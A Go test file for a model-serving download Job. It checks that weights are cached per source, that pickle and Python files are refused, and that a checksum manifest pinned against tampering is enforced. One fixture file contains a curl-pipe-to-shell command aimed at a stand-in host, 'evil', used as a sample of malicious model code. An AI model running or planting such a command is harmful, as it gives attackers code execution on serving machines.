package serving_test

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/natron/gpu-node-pools/components/serving"
	"github.com/natron/gpu-node-pools/internal/gpupool"
	"github.com/natron/gpu-node-pools/internal/kube"
	"github.com/natron/gpu-node-pools/internal/testkit/jobtest"
	"github.com/natron/gpu-node-pools/internal/testkit/pooltest"
)

// weightStore is an object store's bucket as a directory tree, which the
// real rclone reads as the download's "src" remote (the local backend).
type weightStore struct {
	t    *testing.T
	root string
}

// put writes files (name -> content) under a source's path, and is the
// manifest sha256sum would write of them.
func (s weightStore) put(path string, files map[string]string) string {
	s.t.Helper()
	var lines []string
	for name, content := range files {
		full := filepath.Join(s.root, path, name)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			s.t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
			s.t.Fatal(err)
		}
		sum := sha256.Sum256([]byte(content))
		lines = append(lines, hex.EncodeToString(sum[:])+"  "+name)
	}
	sort.Strings(lines)
	return strings.Join(lines, "\n") + "\n"
}

func sha(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

// downloads runs download Jobs and engine waits against one cache.
type downloads struct {
	t     *testing.T
	sh    *jobtest.Shell
	store weightStore
	cache string
}

func newDownloads(t *testing.T) *downloads {
	t.Helper()
	return &downloads{t: t, sh: jobtest.New(t), store: weightStore{t, t.TempDir()}, cache: t.TempDir()}
}

// run runs a container's shell command with the cache where the pod
// mounts it, the store as its source, and its scratch as TMPDIR.
func (d *downloads) run(command string) (string, error) {
	return d.sh.Run(d.store.root, strings.ReplaceAll(command, serving.WeightsPath, d.cache), "TMPDIR="+d.t.TempDir())
}

func (d *downloads) download(e serving.Engine) (string, error) {
	job := serving.DownloadJob("models", e, serving.Storage{Kind: serving.S3}, kube.WorkloadIdentity{})
	c := get(job, "spec", "template", "spec", "containers").([]any)[0].(map[string]any)
	return d.run(c["command"].([]any)[2].(string))
}

// ready reports whether the engine's init container would let it start
// now (its loop, with the sleep cut to one check).
func (d *downloads) ready(e serving.Engine) bool {
	wait := serving.WaitForWeights(e)["args"].([]any)[0].(string)
	_, err := d.run(strings.Replace(wait, "do echo waiting for weights; sleep 10; done", "do exit 1; done", 1))
	return err == nil
}

// loaded are the files the engine would load: its weights directory.
func (d *downloads) loaded(e serving.Engine) []string {
	url := get(serving.VLLMValues(e), "servingEngineSpec", "modelSpec").([]any)[0].(map[string]any)["modelURL"].(string)
	var out []string
	_ = filepath.Walk(strings.ReplaceAll(url, serving.WeightsPath, d.cache), func(p string, info os.FileInfo, err error) error {
		if err == nil && !info.IsDir() {
			out = append(out, filepath.Base(p))
		}
		return nil
	})
	sort.Strings(out)
	return out
}

func downloadEngine(t *testing.T, source string, sums *serving.Checksums, trust bool) serving.Engine {
	t.Helper()
	pool := pooltest.Resolved(t, pooltest.Natron, gpupool.Spec{Name: "infer", SKU: "h100-80gb-x8", MaxNodes: 2}).Facts
	m := serving.ModelSpec{Name: "llama", Pool: "infer", Source: source, ParametersB: 8, Dtype: "bfloat16", TensorParallel: 1,
		MaxModelLen: 8192, GPUMemoryUtilization: 0.9, MinReplicas: new(1), MaxReplicas: 1, QueueDepthTarget: 5,
		Checksums: sums, TrustRemoteCode: trust}
	return serving.NewEngine(m, pool, serving.Options{}.Defaults("cephfs", serving.Cilium), nil, "")
}

// A model directory as it comes from the Hub: weights as safetensors and
// as a pickle, configs, tokenizer, a README.
var hubFiles = map[string]string{
	"config.json": `{"architectures": ["LlamaForCausalLM"]}`, "generation_config.json": "{}",
	"model-00001-of-00002.safetensors": "weights 1", "model-00002-of-00002.safetensors": "weights 2",
	"model.safetensors.index.json": "{}", "tokenizer.json": "{}", "tokenizer_config.json": "{}",
	"pytorch_model.bin": "a pickle that runs code", "README.md": "readme", "original/consolidated.00.pth": "another pickle",
}

// The download Job's own script, run as its image runs it (BusyBox's sh,
// the real rclone's filters and copy) on a cache directory: an upgraded
// stack's unkeyed copy neither releases the engine nor stays; a first
// download copies the weights, configs and tokenizer and no pickle, and
// releases the engine; a rerun copies nothing; a new source is copied
// again into a place the engine started for it reads, and that engine
// does not start on the old weights.
func TestDownloadFollowsTheSource(t *testing.T) {
	t.Parallel()
	d := newDownloads(t)
	d.store.put("models/llama/v1", hubFiles)
	d.store.put("models/llama/v2", map[string]string{"config.json": "{}", "model.safetensors": "weights v2"})
	v1, v2 := downloadEngine(t, "s3://models/llama/v1", nil, false), downloadEngine(t, "s3://models/llama/v2", nil, false)
	// a cache as the program filled it before weights were keyed by source
	legacy := filepath.Join(d.cache, "llama")
	if err := os.MkdirAll(legacy, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{".complete", "weights"} {
		if err := os.WriteFile(filepath.Join(legacy, f), []byte("unkeyed"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if d.ready(v1) {
		t.Fatal("the engine starts before any download (on an unkeyed copy)")
	}
	if out, err := d.download(v1); err != nil {
		t.Fatalf("download: %v\n%s", err, out)
	}
	for _, f := range []string{".complete", "weights"} {
		if _, err := os.Stat(filepath.Join(legacy, f)); err == nil {
			t.Errorf("the unkeyed copy's %s is left in the cache", f)
		}
	}
	want := []string{".complete", "config.json", "generation_config.json", "model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors",
		"model.safetensors.index.json", "tokenizer.json", "tokenizer_config.json"}
	if got := d.loaded(v1); strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("the engine would load %v, want the weights, configs and tokenizer only: %v", got, want)
	}
	if out, err := d.download(v1); err != nil || !strings.Contains(out, "weights already cached") {
		t.Errorf("a rerun copied again: %v\n%s", err, out)
	}
	if !d.ready(v1) {
		t.Error("the engine does not start after its download")
	}
	if d.ready(v2) {
		t.Error("the engine for the new source starts on the old source's weights")
	}
	if out, err := d.download(v2); err != nil {
		t.Fatalf("download v2: %v\n%s", err, out)
	}
	if !d.ready(v2) || strings.Join(d.loaded(v2), " ") != ".complete config.json model.safetensors" {
		t.Errorf("the engine for the new source: ready %v, loads %v", d.ready(v2), d.loaded(v2))
	}
	if d.ready(v1) {
		t.Error("the old source's copy stays after a new source's download")
	}
}

// What whoever can write the store could do to a model, tried against
// the download: each is refused, nothing is marked complete, and the
// engine does not start; what the stack pins or trusts goes through.
func TestDownloadRefusesWeightsItCannotTrust(t *testing.T) {
	t.Parallel()
	files := map[string]string{"config.json": `{"auto_map": {"AutoModelForCausalLM": "modeling_evil.LlamaForCausalLM"}}`,
		"model.safetensors": "weights", "tokenizer.json": "{}"}
	withCode := map[string]string{"modeling_evil.py": "import os; os.system('curl evil | sh')"}
	for k, v := range files {
		withCode[k] = v
	}
	for _, tc := range []struct {
		name   string
		setup  func(s weightStore, path string) *serving.Checksums
		trust  bool
		refuse string // in the Job's output; "" for a download that goes through
		loads  []string
	}{
		{name: "python files without trustRemoteCode", refuse: "holds Python files", setup: func(s weightStore, p string) *serving.Checksums {
			s.put(p, withCode)
			return nil
		}},
		{name: "python files in a subdirectory", refuse: "holds Python files", setup: func(s weightStore, p string) *serving.Checksums {
			s.put(p, files)
			s.put(p+"/sub", map[string]string{"x.py": "code"})
			return nil
		}},
		{name: "pickle weights only", refuse: "no safetensors", setup: func(s weightStore, p string) *serving.Checksums {
			s.put(p, map[string]string{"config.json": "{}", "pytorch_model.bin": "pickle"})
			return nil
		}},
		{name: "pinned and intact", loads: []string{".complete", "SHA256SUMS", "config.json", "model.safetensors", "tokenizer.json"},
			setup: func(s weightStore, p string) *serving.Checksums {
				m := s.put(p, files)
				s.put(p, map[string]string{"SHA256SUMS": m})
				return &serving.Checksums{SHA256: sha(m)}
			}},
		{name: "a weight replaced after pinning", refuse: "FAILED", setup: func(s weightStore, p string) *serving.Checksums {
			m := s.put(p, files)
			s.put(p, map[string]string{"SHA256SUMS": m, "model.safetensors": "poisoned"})
			return &serving.Checksums{SHA256: sha(m)}
		}},
		{name: "the manifest rewritten to match", refuse: "FAILED", setup: func(s weightStore, p string) *serving.Checksums {
			m := s.put(p, files)
			poisoned := map[string]string{"model.safetensors": "poisoned"}
			for k, v := range files {
				if k != "model.safetensors" {
					poisoned[k] = v
				}
			}
			s.put(p, map[string]string{"SHA256SUMS": s.put(p, poisoned)})
			return &serving.Checksums{SHA256: sha(m)}
		}},
		{name: "a file the manifest does not list", refuse: "does not list", setup: func(s weightStore, p string) *serving.Checksums {
			m := s.put(p, files)
			s.put(p, map[string]string{"SHA256SUMS": m, "added_tokens.json": "{}"})
			return &serving.Checksums{SHA256: sha(m)}
		}},
		{name: "trusted code, pinned", trust: true, loads: []string{".complete", "SHA256SUMS", "config.json", "model.safetensors", "modeling_evil.py", "tokenizer.json"},
			setup: func(s weightStore, p string) *serving.Checksums {
				m := s.put(p, withCode)
				s.put(p, map[string]string{"SHA256SUMS": m})
				return &serving.Checksums{SHA256: sha(m)}
			}},
		{name: "trusted code, but not the code pinned", trust: true, refuse: "does not list", setup: func(s weightStore, p string) *serving.Checksums {
			m := s.put(p, files)
			s.put(p, map[string]string{"SHA256SUMS": m, "modeling_evil.py": "code"})
			return &serving.Checksums{SHA256: sha(m)}
		}},
		{name: "a manifest of another name", loads: []string{".complete", "checksums.txt", "config.json", "model.safetensors", "tokenizer.json"},
			setup: func(s weightStore, p string) *serving.Checksums {
				m := s.put(p, files)
				s.put(p, map[string]string{"checksums.txt": m})
				return &serving.Checksums{Manifest: "checksums.txt", SHA256: sha(m)}
			}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			d := newDownloads(t)
			sums := tc.setup(d.store, "models/llama")
			e := downloadEngine(t, "s3://models/llama", sums, tc.trust)
			out, err := d.download(e)
			if tc.refuse != "" {
				if err == nil || !strings.Contains(out, tc.refuse) {
					t.Errorf("want the download refused (%q): %v\n%s", tc.refuse, err, out)
				}
				if d.ready(e) || len(d.loaded(e)) > 0 {
					t.Errorf("a refused download left weights the engine loads: ready %v, %v", d.ready(e), d.loaded(e))
				}
				return
			}
			if err != nil {
				t.Fatalf("download: %v\n%s", err, out)
			}
			if got := d.loaded(e); fmt.Sprint(got) != fmt.Sprint(tc.loads) || !d.ready(e) {
				t.Errorf("the engine (ready %v) loads %v, want %v\n%s", d.ready(e), got, tc.loads, out)
			}
		})
	}
}
